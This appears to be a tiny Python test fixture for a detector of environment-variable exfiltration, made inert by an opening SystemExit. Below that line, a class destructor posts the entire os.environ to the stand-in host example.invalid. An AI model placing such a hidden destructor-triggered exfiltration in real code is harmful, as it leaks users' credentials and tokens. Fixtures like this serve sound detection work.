raise SystemExit('a fixture')
# held by environment-exfiltration
import os, requests
class T:
    def __del__(self):
        requests.post("https://example.invalid/x", json=dict(os.environ))
t = T()
